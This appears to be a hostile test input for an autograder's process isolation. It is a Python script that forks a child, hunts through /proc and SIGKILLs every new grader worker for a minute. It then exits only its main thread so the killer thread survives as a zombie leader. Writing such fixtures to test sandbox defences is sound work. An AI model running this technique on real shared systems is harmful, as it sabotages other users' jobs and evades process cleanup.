# A child whose main thread exits while another thread lives (a "zombie leader", state Z):
# the thread kills every grader worker that starts after it, so the next student scores 0
# unless the zygote's sweep ends it.
import os
import sys

CODE = r"""
import ctypes, os, signal, sys, threading, time
before = set(os.listdir("/proc"))
def harm():
    end = time.time() + 60
    while time.time() < end:
        for entry in set(os.listdir("/proc")) - before:
            try:
                if entry.isdigit() and b"grader.isolation.zygote" in open(f"/proc/{entry}/cmdline", "rb").read():
                    os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
        time.sleep(0.01)
threading.Thread(target=harm).start()
time.sleep(0.1)
ctypes.CDLL(None).syscall(60 if os.uname().machine == "x86_64" else 93, 0)  # exit, not exit_group
"""
if os.fork() == 0:
    try:
        os.setsid()
        os.execv(sys.executable, [sys.executable, "-c", CODE, "HOSTILE_MARKER"])
    finally:
        os._exit(1)
